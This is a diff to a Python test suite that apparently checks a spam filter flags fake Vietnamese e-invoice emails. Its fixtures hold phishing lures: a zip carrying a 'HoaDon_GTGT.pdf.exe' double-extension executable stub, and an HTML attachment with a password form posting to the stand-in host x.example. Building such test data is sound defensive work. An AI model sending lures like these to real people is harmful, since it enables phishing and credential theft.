@@ -190,7 +190,7 @@ _INVOICE_SUBJECTS = st.sampled_from([
     "[eInvoice] Invoice {n} issued"])
 _LURES = st.sampled_from([
     ("zip-exe", "Tải hóa đơn trong tệp đính kèm.",
-     ("HoaDon.zip", "application/zip", zipped(("HoaDon_{n}.pdf.exe", MZ))), ""),
+     ("HoaDon.zip", "application/zip", zipped(("HoaDon_GTGT.pdf.exe", MZ))), ""),
     ("html", "Xem hóa đơn trong tệp đính kèm.",
      ("HoaDon_{n}.html", "text/html", b"<form action='https://x.example/p'>"
       b"<input type=password></form>"), ""),
@@ -211,7 +211,7 @@ def test_fake_einvoices_are_spam(domain: str, subject: str,
     files: tuple[Attached, ...] = ()
     if attached:
         name, content_type, data = attached
-        files = ((name.format(n=number), content_type, data.replace(b"{n}", b"%d" % number)),)
+        files = ((name.format(n=number), content_type, data),)
     raw = mail(f"hoadon@{domain}", subject.format(n=number),
                body.format(dom=domain, n=number), files, auth=auth,
                html=html.format(dom=domain) or None)
